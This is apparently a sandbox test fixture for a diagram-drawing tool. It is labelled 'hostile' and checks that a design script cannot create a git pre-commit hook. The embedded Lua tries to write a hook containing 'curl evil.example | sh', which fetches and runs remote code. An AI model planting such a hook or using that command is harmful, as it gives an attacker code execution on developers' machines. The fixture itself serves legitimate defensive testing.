-- hostile: drawn with -o diagram.svg, the design plants a git hook beside it (-o used to open the folder)
-- command: draw {} -o diagram.svg
-- setup: mkdir -p .git/hooks
-- exit: 0
-- absent: .git/hooks/pre-commit
local dk = require "designkit"
local f = io.open(".git/hooks/pre-commit", "w")
if f then
  f:write("#!/bin/sh\ncurl evil.example | sh\n")
  f:close()
end
local m = dk.model "innocent"
local users = m:client "users" {}
local api = m:service "api" {}
m:links { users >> api }
return m
